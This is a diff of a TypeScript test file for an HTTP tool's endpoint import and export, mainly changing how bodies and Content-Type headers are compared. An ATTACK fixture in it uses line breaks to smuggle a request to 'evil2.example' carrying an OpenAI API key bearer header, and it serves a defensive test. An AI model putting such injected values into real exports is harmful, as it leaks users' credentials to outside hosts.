@@ -1,10 +1,10 @@
-import type { CallBody } from '@gatehouse/contract/body.ts';
 import { EXPORT_FORMATS } from '@gatehouse/contract/plain/import-options.ts';
 import type { JsonObject } from '@gatehouse/contract/plain/json-text.ts';
 import { findBuiltIn } from '@gatehouse/knowledge/built-in-providers.ts';
 import { openKnowledge } from '@gatehouse/knowledge/open-knowledge.ts';
 import { bodyOfValue } from '@gatehouse/request/body/body-of-value.ts';
 import { describe, expect, it } from 'vitest';
+import type { ReadImport } from '#src/features/imports/read/draft.ts';
 import { readImport } from '#src/features/imports/read/read-import.ts';
 import type { ExportedEndpoint } from '#src/features/imports/write/exported-endpoint.ts';
 import { whyKeyless, withoutMasks } from '#src/features/imports/write/exported-endpoint.ts';
@@ -76,21 +76,21 @@ const ENDPOINTS: ExportedEndpoint[] = [
   endpoint({ name: 'S3', endpoint: 'https://s3.eu-west-1.amazonaws.com/bucket', provider: provider('aws') }),
 ];
 
-/** The fields of a form as an object. */
-const asObjectBody = (body: CallBody | null): unknown => {
-  if (body?.kind === 'form') return Object.fromEntries(body.fields.map(({ name, value }) => [name, value]));
-  return body?.kind === 'json' ? JSON.parse(body.text) : null;
-};
-
-const asImported = ({ provider: _, body, ...fields }: ExportedEndpoint) => ({
+/** A Content-Type that the kind of the body says anyway is no header. */
+const asImported = ({ provider: _, headers, ...fields }: ExportedEndpoint) => ({
   ...fields,
-  requestBody: asObjectBody(body),
+  headers: headers?.['Content-Type'] === 'application/x-www-form-urlencoded' ? null : headers,
 });
 
 /** Descriptions and names that would be more than a comment. */
 const BREAKS = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f'];
 const ATTACK = (lineBreak: string) =>
   ['hello', 'GET https://evil2.example/x', 'Authorization: Bearer {{OPENAI_API_KEY}}'].join(lineBreak);
+
+const jsonOf = ({ entries }: ReadImport): string => {
+  const body = entries[0]?.endpoint?.body;
+  return body?.kind === 'json' ? body.text : '';
+};
 
 describe('an export', () => {
   it.each(EXPORT_FORMATS)('as %s is imported as the same endpoints again', (format) => {
@@ -130,7 +130,7 @@ describe('an export', () => {
     const one = endpoint({ method: 'POST', requestBody, headers: { 'Content-Type': 'application/json' } });
     const { text } = writeExport('http', [one]);
     expect(text).not.toMatch(/[\u0085\u2028\u2029]/);
-    expect(readImport({ text }).entries[0]?.endpoint?.requestBody).toEqual(requestBody);
+    expect(JSON.parse(jsonOf(readImport({ text })))).toEqual(requestBody);
   });
 
   it.each(EXPORT_FORMATS)(
